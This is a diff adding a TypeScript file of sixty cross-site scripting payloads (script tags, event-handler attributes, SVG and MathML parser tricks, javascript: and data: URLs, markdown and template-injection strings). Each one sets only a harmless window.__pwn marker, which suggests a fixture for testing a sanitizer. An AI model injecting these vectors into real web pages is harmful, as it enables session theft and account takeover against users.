@@ -1,0 +1,13 @@
+/** Sixty ways in which text has run in somebody's browser. Each would set `__pwn`. */
+const run = 'window.__pwn=1';
+
+export const payloads: readonly string[] = [
+  `<script>${run}</script>`, `</script><script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script>`, `<script src="data:text/javascript,${run}"></script>`, `<script type=module>${run}</script>`, `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `<img/src/onerror=${run}>`, `<img src=x:x onerror\n=${run}>`, `<image src=x onerror=${run}>`, `<img srcset=x onerror=${run}>`, `<img src="x\`\`onerror=${run}">`,
+  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.__pwn=1</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`, `<math href="javascript:${run}">x</math>`,
+  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>`, `<object data="data:text/html,<script>parent.__pwn=1</script>"></object>`, `<embed src="javascript:${run}">`, `<body onload=${run}>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<marquee onstart=${run}>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<link rel=stylesheet href="data:text/css,*{x:expression(${run})}">`, `<base href="javascript:${run}//">`,
+  `<form action="javascript:${run}"><button autofocus>x</button></form>`, `<a href="javascript:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `javascript:${run}`, `data:text/html,<script>parent.__pwn=1</script>`, `[x](javascript:${run})`, `![x](x"onerror="${run})`, `<style>@import'javascript:${run}';</style>`,
+  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `" autofocus onfocus="${run}" x="`, `' autofocus onfocus='${run}' x='`, `--><script>${run}</script><!--`, `]]><script>${run}</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template><p id=__pwn>`,
+];
